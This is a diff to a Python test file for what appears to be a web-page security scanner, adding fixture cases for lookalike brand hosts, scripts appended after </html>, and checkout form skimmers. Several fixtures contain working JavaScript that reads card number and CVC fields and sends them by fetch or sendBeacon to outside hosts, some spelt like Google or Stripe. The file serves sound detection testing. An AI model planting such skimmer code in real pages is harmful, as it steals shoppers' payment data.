@@ -613,6 +613,37 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
         "<p>Error STATUS_ACCESS_VIOLATION in Edge usually means an outdated browser. <a href="
         "'https://mirror.downloadhub.test/edge/MicrosoftEdgeSetup.exe'>Update Edge "
         "(MicrosoftEdgeSetup.exe)</a></p>")}, "fake-update", M),
+    # a company or product whose name holds a brand's letters, or is a letter from one
+    ("a Japanese checkout posting card fields to PayPay, one letter from PayPal", {"footer": (
+        "<form id='pay'><input id='card-number'><input id='cvc'></form><script>document."
+        "getElementById('pay').addEventListener('submit',function(e){e.preventDefault();fetch("
+        "'https://api.paypay.ne.jp/v2/payments',{method:'POST',body:JSON.stringify({cardNumber:"
+        "document.getElementById('card-number').value,cvc:document.getElementById('cvc').value})"
+        "}).then(function(r){return r.json();});});</script>")}, "form-skimmer", M),
+    ("a chat vendor named Pinstripe after </html>", {"after": (
+        '<script src="https://widget.pinstripe.example/chat.js" async></script>')},
+     "appended-script", M),
+    ("a tour operator's booking widget (amazonas-tours) after </html>", {"after": (
+        '<script src="https://booking.amazonas-tours.example/embed.js" async></script>')},
+     "appended-script", M),
+    ("a news site's widget (windowsreport) after </html>", {"after": (
+        '<script src="https://cdn.windowsreport.example/w.js" async></script>')},
+     "appended-script", M),
+    ("a goggle shop's widget, a real word a letter from google, after </html>", {"after": (
+        '<script src="https://shop.goggle.example/embed.js" async></script>')},
+     "appended-script", M),
+    ("card fields posted to a gateway named in payment words, the answer read", {"footer": (
+        "<form id='pay'><input id='card-number'><input id='cvv'></form><script>document."
+        "getElementById('pay').addEventListener('submit',function(e){e.preventDefault();fetch("
+        "'https://api.secure-payments.example/api/charge',{method:'POST',body:JSON.stringify({"
+        "card_number:document.getElementById('card-number').value,cvv:document.getElementById("
+        "'cvv').value})}).then(function(r){return r.json();}).then(function(j){location.href=j."
+        "url;});});</script>")}, "form-skimmer", M),
+    ("a site-search beacon from a listener that picks the search box by its type", {
+        "footer": (
+            "<script>document.addEventListener('keyup',function(e){if(e.target.type!=='search')"
+            "return;navigator.sendBeacon('https://collect.searchpulse.example/q',new FormData("
+            "e.target.form));});</script>")}, "form-skimmer", M),
 ]
 
 
@@ -661,6 +692,12 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
         "<script>var s=document.createElement('script');s.src=atob('"
         + _b64("https://qwzx.test/x.js") + "');document.head.appendChild(s);</script>")},
      "appended-script"),
+    ("a skimmer's beacon to a host spelt like Google's with a lookalike letter", {"footer": (
+        "<script>document.addEventListener('submit',function(e){if(e.target.id!=='checkout')"
+        "return;navigator.sendBeacon('https://googlc-analytics.test/collect',new FormData("
+        "e.target));});</script>")}, "form-skimmer"),
+    ("a script after </html> on a brand joined to CDN words in one word", {"after": (
+        '<script src="https://stripecdn.test/v3/"></script>')}, "appended-script"),
     ("a script after </html> on a host dressed as a CDN", {"after": (
         '<script src="https://static-cdn-libs.test/min.js"></script>')}, "appended-script"),
 ]
@@ -671,3 +708,14 @@ def test_an_injected_variant_stays_high(name: str, where: dict[str, str], kind: 
                                         audit_listed: AuditListed) -> None:
     report = audit_listed(wp_page(**where), URL)
     assert (kind, H) in [(f.kind, f.severity) for f in report.findings], report.findings
+
+
+def test_a_brand_the_pages_own_name_bears_dresses_none_of_its_hosts(
+        audit_listed: AuditListed) -> None:
+    """windows-report's CDN on windows-report-cdn borrows nothing the site does not bear:
+    medium as any widget pasted after `</html>`, not a host dressed as Windows."""
+    page = wp_page(after='<script src="https://static.windows-report-cdn.example/app.js">'
+                         "</script>")
+    report = audit_listed(page, "https://windows-report.example/fix-update-error/")
+    (found,) = [f for f in report.findings if f.kind == "appended-script"]
+    assert found.severity is not H and "dressed" not in found.message
